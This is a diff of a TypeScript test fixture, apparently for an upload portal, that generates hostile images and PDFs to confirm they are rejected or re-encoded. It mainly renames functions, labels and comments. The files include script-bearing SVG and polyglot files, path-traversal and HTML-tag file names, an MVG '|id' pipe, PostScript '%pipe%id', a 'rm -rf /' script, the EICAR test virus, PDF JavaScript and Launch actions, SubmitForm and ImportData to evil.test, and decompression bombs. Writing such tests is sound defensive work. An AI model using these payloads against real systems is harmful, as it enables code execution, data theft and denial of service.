@@ -6,22 +6,23 @@ import { aPdf, aPicture, type SampleFile } from './sample-files.ts';
 
 export interface HostileFile extends SampleFile {
   readonly field: 'profilePhoto' | 'distributionAgreement';
+  /** What makes the file hostile, for the report. */
   readonly what: string;
-  /** The expected outcome. `drawn anew` is for valid pictures with a payload, which must be gone from the re-encoded picture. */
-  readonly expected: 'refused' | 'drawn anew' | 'ignored';
+  /** The expected outcome. `re-encoded` is for valid pictures with a payload, which must be gone from the re-encoded picture. */
+  readonly expected: 'rejected' | 're-encoded' | 'ignored';
 }
 
-/** Part of every file with a payload: nothing that is served may contain it. */
+/** Every file with a payload contains this text, and nothing that is served may contain it. */
 export const payload = 'alert("portal-payload-7f3a9")';
 
-/** Files that pretend to be something else, run code, or crash the parser. Generated, so that none is in the repository. */
+/** Generates files that pretend to be something else, run code, or crash the parser, so that none is in the repository. */
 export async function hostileFiles(): Promise<HostileFile[]> {
   return [
     ...(await disguisedPictures()),
-    ...(await carriers()),
-    ...(await bombs()),
+    ...(await picturesWithPayload()),
+    ...(await oversizedPictures()),
     ...disguisedDocuments(),
-    ...activeDocuments(),
+    ...documentsWithActiveContent(),
   ];
 }
 
@@ -38,17 +39,17 @@ async function disguisedPictures(): Promise<HostileFile[]> {
   const gif = Buffer.concat([Buffer.from('GIF89a/*'), Buffer.alloc(20), Buffer.from(`*/=1;${payload};`)]);
   const files: [string, string, Buffer, string?][] = [
     ['HTML called a picture', 'photo.jpg', html, 'image/jpeg'],
-    ['HTML with the announced type of HTML', 'photo.html', html, 'text/html'],
+    ['HTML with the media type of HTML', 'photo.html', html, 'text/html'],
     ['an SVG with a script', 'logo.svg', svg, 'image/svg+xml'],
     ['an SVG called a PNG', 'logo.png', svg, 'image/png'],
-    ['an SVG behind an XML declaration', 'logo.png', Buffer.concat([Buffer.from('<?xml version="1.0"?>'), svg]), 'image/png'],
-    ['an SVG behind a byte order mark', 'logo.png', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), svg])],
+    ['an SVG after an XML declaration', 'logo.png', Buffer.concat([Buffer.from('<?xml version="1.0"?>'), svg]), 'image/png'],
+    ['an SVG after a byte order mark', 'logo.png', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), svg])],
     ['a compressed SVG', 'logo.svgz', gzipSync(svg), 'image/svg+xml'],
     ['a GIF that is also JavaScript', 'photo.gif', gif, 'image/gif'],
     ['a GIF called a PNG', 'photo.png', gif, 'image/png'],
     ['a script', 'photo.png', Buffer.from(payload), 'image/png'],
     ['a PHP script', 'photo.php', Buffer.from(`<?php ${payload} ?>`), 'image/png'],
-    ['a PHP script behind a GIF’s first bytes', 'photo.php.gif', Buffer.from(`GIF89a<?php ${payload} ?>`), 'image/gif'],
+    ['a PHP script after the first bytes of a GIF', 'photo.php.gif', Buffer.from(`GIF89a<?php ${payload} ?>`), 'image/gif'],
     ['a shell script', 'photo.sh', Buffer.from('#!/bin/sh\nrm -rf /\n')],
     ['a Windows program', 'photo.png.exe', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 7)]), 'image/png'],
     ['a Linux program', 'photo.png', Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(200, 7)])],
@@ -66,7 +67,7 @@ async function disguisedPictures(): Promise<HostileFile[]> {
     ],
     ['a BMP', 'photo.bmp', Buffer.concat([Buffer.from('BM'), Buffer.alloc(100, 1)]), 'image/bmp'],
     ['an icon', 'photo.ico', Buffer.from([0, 0, 1, 0, 1, 0, 16, 16, 0, 0, 1, 0, 32, 0, 0, 0, 0, 0, 22, 0, 0, 0])],
-    ['an AVIF of nothing', 'photo.avif', Buffer.from('\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf', 'latin1'), 'image/avif'],
+    ['an AVIF without content', 'photo.avif', Buffer.from('\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf', 'latin1'), 'image/avif'],
     ['a font', 'photo.woff2', Buffer.concat([Buffer.from('wOF2'), Buffer.alloc(100)])],
     ['a video', 'photo.mp4', Buffer.from('\0\0\0\x18ftypmp42\0\0\0\0mp42isom', 'latin1'), 'video/mp4'],
     [
@@ -75,35 +76,35 @@ async function disguisedPictures(): Promise<HostileFile[]> {
       Buffer.from(`push graphic-context\nfill 'url(https://127.0.0.1/"|id")'\npop graphic-context`),
     ],
     ['PostScript', 'photo.eps', Buffer.from('%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (w) file\n')],
-    ['a PNG’s first bytes and nothing behind', 'photo.png', png.subarray(0, 8), 'image/png'],
-    ['a PNG’s first bytes and HTML behind', 'photo.png', Buffer.concat([png.subarray(0, 8), html]), 'image/png'],
-    ['a JPEG’s first bytes and HTML behind', 'photo.jpg', Buffer.concat([jpeg.subarray(0, 4), html]), 'image/jpeg'],
-    ['a WebP’s first bytes and HTML behind', 'photo.webp', Buffer.concat([webp.subarray(0, 16), html]), 'image/webp'],
+    ['the first bytes of a PNG and nothing after them', 'photo.png', png.subarray(0, 8), 'image/png'],
+    ['the first bytes of a PNG and HTML after them', 'photo.png', Buffer.concat([png.subarray(0, 8), html]), 'image/png'],
+    ['the first bytes of a JPEG and HTML after them', 'photo.jpg', Buffer.concat([jpeg.subarray(0, 4), html]), 'image/jpeg'],
+    ['the first bytes of a WebP and HTML after them', 'photo.webp', Buffer.concat([webp.subarray(0, 16), html]), 'image/webp'],
     ['half a PNG', 'photo.png', png.subarray(0, png.length / 2), 'image/png'],
     ['half a JPEG', 'photo.jpg', jpeg.subarray(0, jpeg.length / 2), 'image/jpeg'],
     ['half a WebP', 'photo.webp', webp.subarray(0, webp.length / 2), 'image/webp'],
-    ['a PNG with a wrong checksum', 'photo.png', flipped(png, 29), 'image/png'],
-    ['bytes of chance', 'photo.png', Buffer.from(Array.from({ length: 5000 }, (_, index) => (index * 7919) % 251))],
-    ['a single zero', 'photo.png', Buffer.alloc(1)],
+    ['a PNG with a wrong checksum', 'photo.png', flipByte(png, 29), 'image/png'],
+    ['pseudorandom bytes', 'photo.png', Buffer.from(Array.from({ length: 5000 }, (_, index) => (index * 7919) % 251))],
+    ['a single zero byte', 'photo.png', Buffer.alloc(1)],
     ['a PNG with the test virus in it', 'photo.png', withPngText(png, eicar)],
-    ['a JPEG with the test virus behind it', 'photo.jpg', Buffer.concat([jpeg, eicar])],
+    ['a JPEG with the test virus after its end', 'photo.jpg', Buffer.concat([jpeg, eicar])],
     ['the test virus itself', 'photo.png', eicar],
   ];
   return [
-    ...files.map(([what, name, bytes, type]) => hostile('profilePhoto', what, name, bytes, 'refused', type)),
-    hostile('profilePhoto', 'nothing at all', 'photo.png', Buffer.alloc(0), 'ignored', 'image/png'),
+    ...files.map(([what, name, bytes, type]) => aHostileFile('profilePhoto', what, name, bytes, 'rejected', type)),
+    aHostileFile('profilePhoto', 'an empty file', 'photo.png', Buffer.alloc(0), 'ignored', 'image/png'),
   ];
 }
 
-/** Valid pictures with a payload, and with file names that are dangerous somewhere. */
-async function carriers(): Promise<HostileFile[]> {
+/** Valid pictures with a payload or with a file name that some systems would misuse. */
+async function picturesWithPayload(): Promise<HostileFile[]> {
   const png = await aPicture('png', 300, 300);
   const jpeg = await aPicture('jpeg', 300, 300);
   const webp = await aPicture('webp', 300, 300);
   const files: [string, string, Buffer][] = [
     ['a PNG with HTML in a text chunk', 'photo.png', withPngText(png, Buffer.from(script))],
-    ['a PNG with HTML behind its end', 'photo.png', Buffer.concat([png, html])],
-    ['a PNG with an archive behind its end', 'photo.png', Buffer.concat([png, aZip('x.html', html)])],
+    ['a PNG with HTML after its end', 'photo.png', Buffer.concat([png, html])],
+    ['a PNG with an archive after its end', 'photo.png', Buffer.concat([png, aZip('x.html', html)])],
     ['a JPEG with a script in its comment', 'photo.jpg', withJpegComment(jpeg, `*/=1;${payload}/*`)],
     ['a JPEG with HTML in its comment', 'photo.jpg', withJpegComment(jpeg, script)],
     [
@@ -113,40 +114,47 @@ async function carriers(): Promise<HostileFile[]> {
         .withExif({ IFD0: { Copyright: script } })
         .toBuffer(),
     ],
-    ['a JPEG with PHP behind its end', 'photo.jpg', Buffer.concat([jpeg, Buffer.from(`<?php ${payload} ?>`)])],
-    ['a WebP with HTML behind its end', 'photo.webp', Buffer.concat([webp, html])],
+    ['a JPEG with PHP after its end', 'photo.jpg', Buffer.concat([jpeg, Buffer.from(`<?php ${payload} ?>`)])],
+    ['a WebP with HTML after its end', 'photo.webp', Buffer.concat([webp, html])],
     ['a PNG called HTML', 'photo.html', png],
     ['a PNG called SVG', 'photo.svg', png],
-    ['a PNG with two endings', 'photo.php.png', png],
-    ['a PNG whose name climbs', '../../../../etc/cron.d/photo.png', png],
-    ['a PNG whose name climbs the other way', '..\\..\\windows\\photo.png', png],
+    ['a PNG with two extensions', 'photo.php.png', png],
+    ['a PNG with path traversal in its name', '../../../../etc/cron.d/photo.png', png],
+    ['a PNG with path traversal by backslashes in its name', '..\\..\\windows\\photo.png', png],
     ['a PNG whose name is a path', '/etc/passwd', png],
-    ['a PNG whose name ends early', 'photo.html%00.png', png],
-    ['a PNG whose name is a tag', "<img src=x onerror='alert(1)'>.png", png],
-    ['a PNG whose name turns around', 'photo\u202Egnp.html', png],
+    ['a PNG with an escaped NUL in its name', 'photo.html%00.png', png],
+    ['a PNG whose name is an HTML tag', "<img src=x onerror='alert(1)'>.png", png],
+    ['a PNG with a right-to-left override in its name', 'photo\u202Egnp.html', png],
     ['a PNG without a name', '.', png],
     ['a PNG with a very long name', `${'x'.repeat(3000)}.png`, png],
     ['a PNG announced as HTML', 'photo.png', png],
     ['the smallest PNG', 'photo.png', await aPicture('png', 1, 1)],
   ];
-  return files.map(([what, name, bytes]) => hostile('profilePhoto', what, name, bytes, 'drawn anew', 'text/html'));
+  return files.map(([what, name, bytes]) => aHostileFile('profilePhoto', what, name, bytes, 're-encoded', 'text/html'));
 }
 
-async function bombs(): Promise<HostileFile[]> {
+async function oversizedPictures(): Promise<HostileFile[]> {
   const jpeg = await aPicture('jpeg');
   const files: [string, Buffer][] = [
-    ['a PNG that says it is 50,000 pixels wide and high', aPngHeader(50_000, 50_000)],
-    ['a PNG that says it is as large as a PNG can be', aPngHeader(2 ** 31 - 1, 2 ** 31 - 1)],
-    ['a PNG without width', aPngHeader(0, 100)],
-    ['a PNG of 300 million pixels that are all there', aPngOfOneColour(20_000, 15_000)],
-    ['a PNG that is one line of 60 million pixels', aPngHeader(60_000_000, 1)],
-    ['a JPEG that says it is 65,500 pixels wide and high', withJpegSize(jpeg, 65_500, 65_500)],
-    ['a WebP that says it is 16,383 pixels wide and high', aWebpHeader(16_383, 16_383)],
-    ['a PNG with 20 MiB of packed text', withPngText(await aPicture(), deflateSync(Buffer.alloc(20 * MiB)), 'zTXt')],
+    ['a PNG that claims to be 50,000 pixels wide and high', aPngHeader(50_000, 50_000)],
+    ['a PNG that claims the largest size of the format', aPngHeader(2 ** 31 - 1, 2 ** 31 - 1)],
+    ['a PNG of width zero', aPngHeader(0, 100)],
+    ['a complete PNG of 300 million pixels', aPngOfOneColour(20_000, 15_000)],
+    ['a PNG that claims to be one row of 60 million pixels', aPngHeader(60_000_000, 1)],
+    ['a JPEG that claims to be 65,500 pixels wide and high', withJpegSize(jpeg, 65_500, 65_500)],
+    ['a WebP that claims to be 16,383 pixels wide and high', aWebpHeader(16_383, 16_383)],
+    ['a PNG with 20 MiB of compressed text', withPngText(await aPicture(), deflateSync(Buffer.alloc(20 * MiB)), 'zTXt')],
     ['one byte more than 5 MiB', Buffer.concat([await aPicture(), Buffer.alloc(5 * MiB)])],
   ];
   return files.map(([what, bytes]) =>
-    hostile('profilePhoto', what, 'photo.png', bytes, what.includes('packed text') ? 'drawn anew' : 'refused', 'image/png'),
+    aHostileFile(
+      'profilePhoto',
+      what,
+      'photo.png',
+      bytes,
+      what.includes('compressed text') ? 're-encoded' : 'rejected',
+      'image/png',
+    ),
   );
 }
 
@@ -158,70 +166,70 @@ function disguisedDocuments(): HostileFile[] {
     ['an archive', aZip('x.html', html)],
     ['a Word document', aZip('word/document.xml', Buffer.from('<w:document/>'))],
     ['a Windows program', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(300, 3)])],
-    ['HTML in front of a PDF', Buffer.concat([html, pdf])],
+    ['HTML before a PDF', Buffer.concat([html, pdf])],
     ['a PDF that is also HTML from its second line on', aPdf({ comment: `%<html>${script}` })],
-    ['a PDF with HTML behind its end', Buffer.concat([pdf, html])],
-    ['a PDF with an archive behind its end', Buffer.concat([pdf, aZip('x.html', html)])],
-    ['a PDF’s first bytes and nothing behind', Buffer.from('%PDF-1.7\n')],
+    ['a PDF with HTML after its end', Buffer.concat([pdf, html])],
+    ['a PDF with an archive after its end', Buffer.concat([pdf, aZip('x.html', html)])],
+    ['the first bytes of a PDF and nothing after them', Buffer.from('%PDF-1.7\n')],
     ['half a PDF', pdf.subarray(0, pdf.length / 2)],
-    ['a PDF that lost its end', pdf.subarray(0, pdf.length - 8)],
+    ['a PDF without its end', pdf.subarray(0, pdf.length - 8)],
     ['a PDF without pages', aPdf({ pages: 0 })],
     [
-      'a PDF whose pages are their own parents',
+      'a PDF whose page tree contains itself',
       aPdf({ catalogue: '/Pages 10 0 R', objects: ['<< /Type /Pages /Kids [10 0 R] /Count 1 >>'] }),
     ],
     ['a PDF with the test virus in it', aPdf({ objects: [eicar] })],
-    ['a PDF that asks for a password', anEncryptedPdf()],
+    ['a PDF that needs a password', anEncryptedPdf()],
     ['one byte more than 15 MiB', Buffer.concat([pdf, Buffer.alloc(15 * MiB)])],
   ];
   return files.map(([what, bytes]) =>
-    hostile('distributionAgreement', what, 'agreement.pdf', bytes, 'refused', 'application/pdf'),
+    aHostileFile('distributionAgreement', what, 'agreement.pdf', bytes, 'rejected', 'application/pdf'),
   );
 }
 
-function activeDocuments(): HostileFile[] {
+function documentsWithActiveContent(): HostileFile[] {
   const action = `<< /S /JavaScript /JS (${payload.replaceAll(/[()]/g, String.raw`\$&`)}) >>`;
-  const packed = (content: string, extra = '') => {
+  const objectStream = (content: string, extra = '') => {
     const bytes = deflateSync(Buffer.from(`20 0 ${content}`, 'latin1'));
     const head = `<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode ${extra}/Length ${bytes.length} >>\nstream\n`;
     return Buffer.concat([Buffer.from(head), bytes, Buffer.from('\nendstream')]);
   };
-  const manyPacked = Array.from({ length: 80 }, () => packed(' '.repeat(3 * MiB)));
+  const manyObjectStreams = Array.from({ length: 80 }, () => objectStream(' '.repeat(3 * MiB)));
   const files: [string, Parameters<typeof aPdf>[0]][] = [
     ['a script when it is opened', { catalogue: '/OpenAction 10 0 R', objects: [action] }],
-    ['a script by name', { catalogue: '/Names << /JavaScript << /Names [(a) 10 0 R] >> >>', objects: [action] }],
+    ['a script in its name tree', { catalogue: '/Names << /JavaScript << /Names [(a) 10 0 R] >> >>', objects: [action] }],
     [
-      'a script in another spelling',
+      'a script whose type is written with an escape',
       { catalogue: '/OpenAction 10 0 R', objects: [action.replace('/JavaScript', '/Java#53cript')] },
     ],
     ['a script when it is closed', { catalogue: '/AA << /WC 10 0 R >>', objects: [action] }],
-    ['a script in a packed list', { catalogue: '/OpenAction 20 0 R', objects: [packed(action)] }],
+    ['a script in a compressed object stream', { catalogue: '/OpenAction 20 0 R', objects: [objectStream(action)] }],
     [
-      'a script in a packed list called otherwise',
-      { objects: [Buffer.from(packed(action).toString('latin1').replace('/ObjStm', '/Obj#53tm'), 'latin1')] },
+      'a script in an object stream whose type is written with an escape',
+      { objects: [Buffer.from(objectStream(action).toString('latin1').replace('/ObjStm', '/Obj#53tm'), 'latin1')] },
     ],
     ['a program to start', { catalogue: '/OpenAction 10 0 R', objects: ['<< /S /Launch /F (calc.exe) >>'] }],
     [
-      'a file inside',
+      'an embedded file',
       {
         catalogue: '/Names << /EmbeddedFiles << /Names [(x.exe) 10 0 R] >> >>',
         objects: ['<< /Type /Filespec /EF << /F 11 0 R >> >>', '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream'],
       },
     ],
-    ['a form that sends itself', { objects: ['<< /S /SubmitForm /F (https://evil.test) >>'] }],
-    ['a form that fetches data', { objects: ['<< /S /ImportData /F (\\\\\\\\evil.test\\\\x) >>'] }],
-    ['a film with a script', { objects: ['<< /Subtype /RichMedia /RichMediaContent 1 0 R >>'] }],
-    ['a way into a file inside', { objects: ['<< /S /GoToE /D [0 /Fit] >>'] }],
-    ['eighty packed lists that fill the memory together', { objects: manyPacked }],
-    ['beginnings of packed lists that all share one end', { objects: [`${'stream\n\x78\x9c'.repeat(30_000)}endstream`] }],
-    ['a packed list that fills the memory', { objects: [packed(' '.repeat(64 * MiB))] }],
+    ['a form that submits itself', { objects: ['<< /S /SubmitForm /F (https://evil.test) >>'] }],
+    ['a form that imports data', { objects: ['<< /S /ImportData /F (\\\\\\\\evil.test\\\\x) >>'] }],
+    ['rich media', { objects: ['<< /Subtype /RichMedia /RichMediaContent 1 0 R >>'] }],
+    ['a link into an embedded file', { objects: ['<< /S /GoToE /D [0 /Fit] >>'] }],
+    ['eighty compressed object streams that together fill the memory', { objects: manyObjectStreams }],
+    ['starts of compressed streams that all share one end', { objects: [`${'stream\n\x78\x9c'.repeat(30_000)}endstream`] }],
+    ['a compressed object stream that fills the memory', { objects: [objectStream(' '.repeat(64 * MiB))] }],
   ];
   return files.map(([what, parts]) =>
-    hostile('distributionAgreement', `a PDF with ${what}`, 'agreement.pdf', aPdf(parts), 'refused', 'application/pdf'),
+    aHostileFile('distributionAgreement', `a PDF with ${what}`, 'agreement.pdf', aPdf(parts), 'rejected', 'application/pdf'),
   );
 }
 
-function hostile(
+function aHostileFile(
   field: HostileFile['field'],
   what: string,
   name: string,
@@ -232,7 +240,7 @@ function hostile(
   return { field, what, name, bytes, expected, type };
 }
 
-function flipped(bytes: Buffer, at: number): Buffer {
+function flipByte(bytes: Buffer, at: number): Buffer {
   const copy = Buffer.from(bytes);
   copy[at] = (copy[at] ?? 0) ^ 0xff;
   return copy;
@@ -246,9 +254,9 @@ function pngChunk(type: string, content: Buffer): Buffer {
   return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)]);
 }
 
-const pngStart = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
+const pngSignature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
 
-function pngSize(width: number, height: number): Buffer {
+function pngHeaderChunk(width: number, height: number): Buffer {
   const size = Buffer.alloc(13);
   size.writeUInt32BE(width, 0);
   size.writeUInt32BE(height, 4);
@@ -259,21 +267,26 @@ function pngSize(width: number, height: number): Buffer {
 
 function aPngHeader(width: number, height: number): Buffer {
   return Buffer.concat([
-    pngStart,
-    pngSize(width, height),
+    pngSignature,
+    pngHeaderChunk(width, height),
     pngChunk('IDAT', deflateSync(Buffer.alloc(100))),
     pngChunk('IEND', Buffer.alloc(0)),
   ]);
 }
 
 function aPngOfOneColour(width: number, height: number): Buffer {
-  const lines = deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * height), { level: 9 });
-  return Buffer.concat([pngStart, pngSize(width, height), pngChunk('IDAT', lines), pngChunk('IEND', Buffer.alloc(0))]);
+  const pixels = deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * height), { level: 9 });
+  return Buffer.concat([
+    pngSignature,
+    pngHeaderChunk(width, height),
+    pngChunk('IDAT', pixels),
+    pngChunk('IEND', Buffer.alloc(0)),
+  ]);
 }
 
 function withPngText(png: Buffer, text: Buffer, type: 'tEXt' | 'zTXt' = 'tEXt'): Buffer {
   const key = Buffer.from(type === 'tEXt' ? 'Comment\0' : 'Comment\0\0', 'latin1');
-  // After the first chunk, which contains the dimensions.
+  // The text comes after the first chunk, which contains the dimensions and ends at byte 33.
   return Buffer.concat([png.subarray(0, 33), pngChunk(type, Buffer.concat([key, text])), png.subarray(33)]);
 }
 
